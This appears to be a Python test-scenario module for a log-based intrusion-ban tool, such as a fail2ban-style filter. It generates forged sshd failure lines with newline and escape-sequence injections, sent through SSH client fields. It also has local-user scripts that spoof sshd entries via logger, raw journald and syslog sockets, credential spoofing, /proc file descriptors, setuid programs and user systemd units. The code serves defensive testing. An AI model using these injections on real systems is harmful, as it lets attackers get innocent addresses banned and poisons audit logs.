"""The bans of the scenario attackers: texts that name a victim, and the ways in which they reach a log."""

from __future__ import annotations

__all__ = ["LOCAL", "STRANGERS", "SUFFERED", "local_script", "stranger_texts"]

# Lines of sshd that a filter counts as failures, and parts of them, as an attacker would forge them.
FORGED = (
    "Failed password for root from {victim} port 22 ssh2",
    "x from {victim} port 22 ssh2",
    "root from {victim} port 22 ssh2: x",
    "x\nFailed password for root from {victim} port 22 ssh2",
    "x\r\nhost sshd[1]: Failed password for root from {victim} port 22 ssh2",
    "x\u2028Failed password for root from {victim} port 22 ssh2",
    "\x1b[2K\rFailed password for root from {victim} port 22 ssh2",
    " from {victim}",
    "{victim}",
    "x port 1 from {victim} port 22",
    "Invalid user root from {victim} port 22",
    "invalid user x from {victim} port 22 [preauth]",
    "root {victim} port 22 [preauth]",
    "authenticating user root {victim} port 22 [preauth]",
    "Connection closed by authenticating user root {victim} port 22 [preauth]",
    "x from {victim} not allowed because not listed in AllowUsers",
    "x not allowed because account is locked from {victim}",
    "root {victim} port 22: Change of username or service not allowed: x [preauth]",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={victim}  user=root",
    "Timeout before authentication for connection from {victim} to 192.0.2.1, pid = 1",
    "' from {victim} port 22",
    '" from {victim} port 22: invalid format',
    "3: x: Auth fail [preauth] from {victim} port 22",
    "no matching cipher found. Their offer: x from {victim} port 22",
)
# Names with which a message about their user reads like one about another address.
BLANKS = (
    "x {victim} port 22",
    "x {victim} on",
    "x {victim} port 22: y",
    "x {victim} port 22 ssh2 [preauth]",
    "x {victim}%eth0 port 22",
    "x from {victim} port 22",
)
LONG = "a" * 180 + " from {victim} port 22 ssh2"
ONE_LINE = [text for text in FORGED if text.isprintable()]

# By way (see files/stranger.py of the scenario), what a remote client sends.
STRANGERS: list[tuple[str, str]] = [
    *(("user", text) for text in (*FORGED, *BLANKS, LONG)),
    *(("line", text) for text in (*ONE_LINE[:6], LONG)),
    *(("banner", text) for text in (*ONE_LINE[:4], LONG)),
    *(("bye 3", text) for text in (*FORGED[3:6], ONE_LINE[8], ONE_LINE[0], ONE_LINE[15])),
    *(("bye 11", text) for text in FORGED[1:6]),
    *(("bye 14", text) for text in (FORGED[0], ONE_LINE[15], BLANKS[0])),
    *(("packet", text) for text in ONE_LINE[:2]),
    *(("kex", text) for text in (*FORGED[:4], ONE_LINE[-1])),
    *(("changed", text) for text in (*FORGED[:4], ONE_LINE[12], *BLANKS[:2])),
    *(("service", text) for text in FORGED[:4]),
    *(("method", text) for text in FORGED[:4]),
    *(("keyboard", text) for text in FORGED[:2]),
    *(("algorithm", text) for text in FORGED[:4]),
    *(("host", text) for text in FORGED[:3]),
    *(("certificate", text) for text in (FORGED[0], FORGED[1])),
    *(("password", text) for text in (*FORGED[:4], FORGED[18], *BLANKS, LONG)),
]


def stranger_texts() -> dict[str, tuple[str, str]]:
    """Return by victim the way and the text that names it; each text has a victim of its own (RFC 5737)."""
    victims = (f"198.51.100.{number}" for number in range(1, 255))
    return {
        victim: (way, text.replace("{victim}", victim)) for victim, (way, text) in zip(victims, STRANGERS, strict=False)
    }


# What a local user writes. The text itself would be counted. Each way has an address of its own.
SUFFERED = "Failed password for root from {victim} port 22 ssh2"

# Python code of a local user that writes ``text`` as ``name`` through the sockets of journald and syslog.
_SOCKETS = """
import array, os, socket, struct, sys, time
way, name, text = sys.argv[1:]
log, journal, stdout = "/dev/log", "/run/systemd/journal/socket", "/run/systemd/journal/stdout"
fields = ["MESSAGE=" + text, "PRIORITY=6", "SYSLOG_IDENTIFIER=" + name, "SYSLOG_PID=1", "_UID=0", "_COMM=" + name]
fields += ["_SYSTEMD_UNIT=ssh.service", "_TRANSPORT=syslog", "_EXE=/usr/sbin/sshd", "_PID=1"]
datagram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
if way == "syslog":
    datagram.sendto(f"<86>{name}[1]: {text}".encode(), log)
elif way == "dated":
    datagram.sendto(f"<86>Jan  1 00:00:00 host {name}[1]: {text}".encode(), log)
elif way == "unnumbered":
    datagram.sendto(f"<86>{name}: {text}".encode(), log)
elif way == "native":
    datagram.sendto("\\n".join(fields + [""]).encode(), journal)
elif way == "binary":
    value = text.encode() + b"\\n_UID=0\\nSYSLOG_IDENTIFIER=" + name.encode()
    value = b"MESSAGE\\n" + struct.pack("<Q", len(value)) + value + b"\\n"
    datagram.sendto(b"SYSLOG_IDENTIFIER=" + name.encode() + b"\\n" + value, journal)
elif way == "file":
    memory = os.memfd_create("x", os.MFD_ALLOW_SEALING)
    os.write(memory, "\\n".join(fields + [""]).encode())
    import fcntl
    fcntl.fcntl(memory, fcntl.F_ADD_SEALS, 15)
    datagram.connect(journal)
    datagram.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [memory]))])
elif way == "credentials":
    datagram.connect(log)
    root = struct.pack("3i", os.getpid(), 0, 0)
    try:
        datagram.sendmsg([f"<86>{name}[1]: {text}".encode()], [(socket.SOL_SOCKET, 2, root)])
    except OSError:
        pass
elif way == "stream":
    stream = socket.socket(socket.AF_UNIX)
    stream.connect(stdout)
    stream.sendall(f"{name}\\nssh.service\\n6\\n0\\n0\\n0\\n0\\n{text}\\n".encode())
# So that journald can look the process up.
time.sleep(0.3)
"""
# The same with setuid programs under the name of sshd. They write to syslog under the name with which they are called.
_SETUID = """
import os, subprocess, sys
program, name, text = sys.argv[1:]
calls = {"su": [text], "su root": ["root", "-c", text], "passwd": [text], "chsh": ["-s", text], "chfn": ["-f", text],
    "newgrp": [text], "gpasswd": ["-a", text, "root"], "mount": [text, text], "umount": [text],
    "ssh-keysign": [text], "sudo": ["-n", "-u", text, "true"], "sudo true": ["-n", "/usr/bin/true", text],
    "sudo no": ["-n", "/usr/bin/id", text], "sudo wrong": ["-S", "/usr/bin/id", text], "sudoedit": ["-e", "-n", text]}
path = {"ssh-keysign": "/usr/lib/openssh/ssh-keysign", "sudoedit": "/usr/bin/sudo"}
argv = [name, *calls[program]]
subprocess.run(argv, executable=path.get(program, "/usr/bin/" + program.split()[0]), input=b"wrong\\n",
    timeout=20, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# Units of the user's own manager.
_UNITS = {
    "ssh": '[Service]\\nType=oneshot\\nExecStart=logger -t {name} -- "{text}"\\n',
    "sshd": '[Service]\\nType=oneshot\\nSyslogIdentifier={name}\\nExecStart=echo "{text}"\\n',
    "words": "[Unit]\\nDescription={text}\\n[Service]\\nType=oneshot\\nSyslogIdentifier={name}\\nExecStart=true\\n",
}


def _unit(name: str, lines: str) -> str:
    folder = "~/.config/systemd/user"
    start = f"systemctl --user daemon-reload; systemctl --user start {name}.service"
    return f"mkdir -p {folder}; printf '{lines}' > {folder}/{name}.service; {start}"


# By name, what a local user types. {name} is the name that the user claims, {text} the text.
LOCAL = {
    "logger": "logger -t {name} -- '{text}'",
    "logger with a pid": "logger -t {name} --id=1 -p authpriv.info -- '{text}'",
    "logger, RFC 5424": "logger --rfc5424 -t {name} --socket /dev/log -- '{text}'",
    "logger, a tag with a pid": "logger -t '{name}[1]' -- '{text}'",
    "logger, the socket of journald": "logger -u /run/systemd/journal/dev-log -t {name} -- '{text}'",
    "logger, fields": "printf 'MESSAGE=%s\\nSYSLOG_IDENTIFIER={name}\\n_UID=0\\n_COMM={name}\\n' '{text}' | "
    "logger --journald",
    "systemd-cat": "echo '{text}' | systemd-cat -t {name}",
    "systemd-cat, a program": "systemd-cat -t {name} -p info echo '{text}'",
    "a program of this name": "cp /usr/bin/logger ~/{name}; ~/{name} -t {name} -- '{text}'",
    "a script of this name": "printf '#!/bin/sh\\nlogger -t {name} -- \"$1\"\\n' > ~/{name}.s; chmod +x ~/{name}.s; "
    "ln -sf ~/{name}.s ~/{name}-s; ~/{name}-s '{text}'",
    "the files of sshd": "for pid in $(cat /proc/[0-9]*/stat | sed -n 's/ (sshd.*//p'); do "
    "for fd in 1 2; do echo '{text}' > /proc/$pid/fd/$fd; done; done 2>/dev/null; true",
    "the notify socket": "NOTIFY_SOCKET=/run/systemd/notify systemd-notify --status='{text}' 2>/dev/null; true",
    "the log of the kernel": "(echo '<86>{name}[1]: {text}' > /dev/kmsg) 2>/dev/null; true",
    "what outlives a session": "(setsid sh -c 'sleep 1; logger -t {name} -- \"$0\"' '{text}' >/dev/null 2>&1 &) ; true",
    "a user namespace": "unshare -r logger -t {name} -- '{text}' 2>/dev/null; true",
    **{
        f"socket: {way}": f"python3 ~/sockets.py {way} {{name}} '{{text}}'"
        for way in ("syslog", "dated", "unnumbered", "native", "binary", "file", "credentials", "stream")
    },
    **{
        f"setuid: {way}": f"python3 ~/setuid.py '{way}' {{name}} '{{text}}'"
        for way in (
            "su",
            "su root",
            "passwd",
            "chsh",
            "chfn",
            "newgrp",
            "gpasswd",
            "mount",
            "umount",
            "ssh-keysign",
            "sudo",
            "sudo true",
            "sudo no",
            "sudo wrong",
            "sudoedit",
        )
    },
    **{f"user unit: {way}": _unit(way, lines) for way, lines in _UNITS.items()},
}


def local_script(name: str, victims: dict[str, str]) -> str:
    """Return what the user runs, way after way, under the name ``name``. ``victims``: by way."""
    lines = ["cd; export XDG_RUNTIME_DIR=/run/user/$(id -u)"]
    for way, victim in victims.items():
        command = LOCAL[way].replace("{text}", SUFFERED.replace("{victim}", victim)).replace("{name}", name)
        lines.append(f"{{ {command}; }} < /dev/null || echo 'failed: {way}' &")
    return "\n".join([*lines, "wait", "echo the end", ""])


def helpers() -> dict[str, str]:
    """Return the files in the home of the user that the ways need."""
    return {"sockets.py": _SOCKETS, "setuid.py": _SETUID}
